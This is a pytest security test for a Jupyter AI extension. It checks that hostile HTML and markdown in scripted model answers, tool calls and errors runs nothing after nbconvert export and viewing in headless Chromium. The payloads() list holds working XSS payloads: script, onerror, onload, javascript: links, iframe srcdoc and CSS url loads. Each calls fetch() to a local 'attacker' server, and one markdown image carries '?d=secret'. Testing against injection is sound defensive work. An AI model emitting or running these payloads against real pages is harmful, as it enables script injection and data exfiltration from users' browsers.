"""A saved notebook whose runs carried hostile HTML runs nothing when converted and opened.

The model of these runs answers, reasons, calls tools and fails with the classic payloads; the
notebook is executed headless (nbclient), saved, converted by ``jupyter nbconvert --to html`` and
opened in headless Chromium, with an "attacker" HTTP server listening on loopback.
"""

from __future__ import annotations

import json
import os
import shutil
import subprocess
import sys
import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import nbformat
import pytest
from nbclient import NotebookClient

from benchmarks.b6_lab import chromium, chromium_path
from tests.markdown_html import forbidden, rendered

pytestmark = pytest.mark.timeout(240)

WIDGET = "application/vnd.jupyter.widget-view+json"
STATE = "application/vnd.jupyter.widget-state+json"
MARK = "NETA-RAN"


class Attacker:
    """Records every request that reaches it: a payload that loads or sends anything shows here."""

    def __init__(self) -> None:
        self.paths: list[str] = []
        attacker = self

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                attacker.paths.append(self.path)
                self.send_response(204)
                self.end_headers()

            do_POST = do_GET

            def log_message(self, format: str, *args: Any) -> None:
                pass

        self._httpd = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self._thread = threading.Thread(target=self._httpd.serve_forever, daemon=True)
        self._thread.start()

    @property
    def url(self) -> str:
        return f"http://127.0.0.1:{self._httpd.server_address[1]}"

    def close(self) -> None:
        self._httpd.shutdown()
        self._httpd.server_close()


def payloads(at: str) -> list[str]:
    """Markup that runs, loads or navigates when a renderer lets it through."""
    run = f"fetch('{at}/ran');console.log('{MARK}');alert('{MARK}')"
    return [
        f"<script>{run}</script>",
        f'<img src="{at}/img-onerror-x" onerror="{run}">',
        f'<svg onload="{run}"><circle r="4"></circle></svg>',
        f'<iframe src="{at}/iframe"></iframe>',
        f'<iframe srcdoc="<script>parent.{run}</script>"></iframe>',
        f'<a href="javascript:{run}">click here</a>',
        f"<style>body {{ background: url({at}/style-url) }} .jp-Cell {{ display: none }}</style>",
        f'<details open ontoggle="{run}">x</details>',
        f'<input autofocus onfocus="{run}">',
        f'<object data="{at}/object"></object><embed src="{at}/embed">',
        f"![chart]({at}/markdown-image.png?d=secret)",
        f"[a markdown link](javascript:{run})",
        f"[a reference link][evil]\n\n[evil]: javascript:{run}",
        f'`<img src=x onerror="{run}">` and ``<script>{run}</script>``',
        f"```html\n<script>{run}</script>\n```",
    ]


def script(at: str) -> dict[str, Any]:
    every = "\n\n".join(payloads(at))
    first = payloads(at)[1]
    return {
        "turns": [
            {
                "reasoning": every,
                "text": f"Looking into it. {first}",
                "toolCalls": [
                    {"name": "read_file", "arguments": {"path": first}},
                    {"name": payloads(at)[0], "arguments": {"code": payloads(at)[2]}},
                ],
            },
            {"text": f"Here is what I found:\n\n{every}"},
            {"text": first, "error": {"kind": "invalid", "message": f"failed: {first}"}},
        ]
    }


@pytest.fixture(scope="module")
def attacker() -> Iterator[Attacker]:
    server = Attacker()
    yield server
    server.close()


@pytest.fixture(scope="module")
def saved(tmp_path_factory: pytest.TempPathFactory, attacker: Attacker) -> Path:
    """The notebook, executed and saved as it would be after a session with hostile runs."""
    folder = tmp_path_factory.mktemp("saved")
    (folder / "script.json").write_text(json.dumps(script(attacker.url)))
    model = f"scripted:{folder / 'script.json'}"
    nb = nbformat.v4.new_notebook()
    nb.cells = [
        nbformat.v4.new_code_cell("%load_ext neta_jupyter"),
        nbformat.v4.new_code_cell(
            f"%%neta --model {model} --approve auto\nsummarise <b>this</b> {payloads(attacker.url)[0]}"
        ),
        nbformat.v4.new_code_cell(
            "from neta_jupyter.kernel import current_context\n"
            "await current_context().last.wait(60);"
        ),
        nbformat.v4.new_code_cell(f"%neta --model {model} --approve auto and now fail"),
        nbformat.v4.new_code_cell("await current_context().last.wait(60);"),
    ]
    with pytest.MonkeyPatch.context() as env:
        for name in ("NETA_SERVER_URL", "NETA_KERNEL_TOKEN", "NETA_SERVER_PID"):
            env.delenv(name, raising=False)  # the runs live in the kernel (embedded)
        env.setenv("NETA_SCRIPTED_MODELS_DIR", str(folder))
        client = NotebookClient(
            nb, kernel_name="python3", timeout=90, resources={"metadata": {"path": str(folder)}}
        )
        client.execute()
    path = folder / "saved.ipynb"
    nbformat.write(nb, path)
    return path


def run_outputs(nb: Any) -> list[dict[str, Any]]:
    return [o for c in nb.cells for o in c.get("outputs", []) if WIDGET in o.get("data", {})]


def test_saved_outputs_are_text_and_markdown_only(saved: Path, attacker: Attacker) -> None:
    nb = nbformat.read(saved, as_version=4)
    outputs = run_outputs(nb)
    assert len(outputs) == 2, "one output per run"
    for output in outputs:
        data = output["data"]
        assert set(data) == {"text/plain", "text/markdown", WIDGET}
        markdown = data["text/markdown"]
        for renderer, html in rendered(markdown).items():
            assert forbidden(html) == [], (renderer, html)
        assert "<script" not in markdown.replace("```html\n<script", "")
        assert attacker.url + "/markdown-image.png" not in markdown.replace(
            f"]({attacker.url}/markdown-image.png", ""
        ), "the image is a link to where it is"
    answer, failed = (o["data"] for o in outputs)
    assert "*completed" in answer["text/markdown"]
    assert "*failed: model call failed: failed: &lt;img" in failed["text/markdown"]
    # Plain text shows what was said, as written.
    assert payloads(attacker.url)[0] in answer["text/plain"]
    assert "- read_file" in answer["text/plain"] and "\u2717" in answer["text/plain"]
    assert attacker.paths == []


def html_exports(saved: Path) -> dict[str, Path]:
    """nbconvert's HTML of the notebook as saved, and of a copy saved without widget state
    (JupyterLab's default), where the transcript is what nbconvert shows."""
    nb = nbformat.read(saved, as_version=4)
    nb.metadata.pop("widgets", None)
    stateless = saved.with_name("stateless.ipynb")
    nbformat.write(nb, stateless)
    jupyter = shutil.which("jupyter", path=str(Path(sys.executable).parent)) or "jupyter"
    exports = {}
    for source in (saved, stateless):
        subprocess.run(
            [jupyter, "nbconvert", "--to", "html", str(source)],
            check=True,
            capture_output=True,
            timeout=120,
        )
        exports[source.stem] = source.with_suffix(".html")
    return exports


CHECK_DOM = """
() => {
  const outputs = Array.from(document.querySelectorAll('.jp-OutputArea-output'));
  const inside = outputs.flatMap(o => Array.from(o.querySelectorAll('*')));
  return {
    outputs: outputs.length,
    text: outputs.map(o => o.innerText).join('\\n'),
    tags: inside.map(e => e.tagName.toLowerCase())
      .filter(t => ['img', 'svg', 'iframe', 'style', 'object', 'embed', 'input', 'details',
                    'form'].includes(t)),
    handlers: Array.from(document.querySelectorAll('*')).flatMap(
      e => Array.from(e.attributes).filter(a => a.name.startsWith('on'))
        .map(a => e.tagName + ' ' + a.name)),
    scriptLinks: Array.from(document.querySelectorAll('a'))
      .map(a => a.getAttribute('href') || '')
      .filter(h => !/^(https?:|#|$)/i.test(h.trim())),
    // Scripts a browser runs (nbconvert's widget data travels in JSON-typed ones, which it does not).
    scripts: Array.from(document.scripts)
      .filter(s => ['', 'text/javascript', 'module'].includes(s.type.toLowerCase()))
      .map(s => s.text).filter(t => t.includes('NETA-RAN')),
    background: getComputedStyle(document.body).backgroundImage,
  };
}
"""


@pytest.fixture
def browser() -> Iterator[Any]:
    found = chromium_path()
    if found is None:
        if os.environ.get("CI") == "true":
            raise RuntimeError("CI=true but Chromium is missing: install Debian's chromium package")
        pytest.skip("Chromium is not installed; the browser tests need it")
    pytest.importorskip("playwright.sync_api")
    with chromium(found) as launched:
        yield launched


def open_and_watch(browser: Any, html: Path, attacker: Attacker) -> dict[str, Any]:
    """Open a page; what it did (dialogs, console lines, requests) and what its DOM holds."""
    page = browser.new_page()
    seen: dict[str, Any] = {"dialogs": [], "console": [], "requests": []}
    page.on("dialog", lambda d: (seen["dialogs"].append(d.message), d.dismiss()))
    page.on("console", lambda m: seen["console"].append(m.text))
    page.on("request", lambda r: seen["requests"].append(r.url))
    # Nothing leaves the machine (CDN scripts included); loopback reaches the attacker.
    page.route(
        "**/*",
        lambda route: (
            route.continue_()
            if route.request.url.startswith(("file:", attacker.url))
            else route.abort()
        ),
    )
    page.goto(html.as_uri(), wait_until="load")
    page.wait_for_timeout(1500)  # for images to fail, frames to load, focus to move
    seen["dom"] = page.evaluate(CHECK_DOM)
    page.close()
    return seen


@pytest.mark.browser
def test_nbconvert_html_of_the_saved_notebook_runs_nothing(
    saved: Path, attacker: Attacker, browser: Any
) -> None:
    for name, html in html_exports(saved).items():
        seen = open_and_watch(browser, html, attacker)
        dom = seen["dom"]
        assert seen["dialogs"] == [], name
        assert [m for m in seen["console"] if MARK in m] == [], name
        assert [u for u in seen["requests"] if u.startswith(attacker.url)] == [], name
        assert dom["tags"] == [] and dom["handlers"] == [] and dom["scripts"] == [], (name, dom)
        assert dom["scriptLinks"] == [], (name, dom)
        assert "url(" not in dom["background"], (name, dom)
        if name == "stateless":
            assert dom["outputs"] >= 2
            assert "<script>fetch(" in dom["text"], "the payloads show as text"
    assert attacker.paths == []
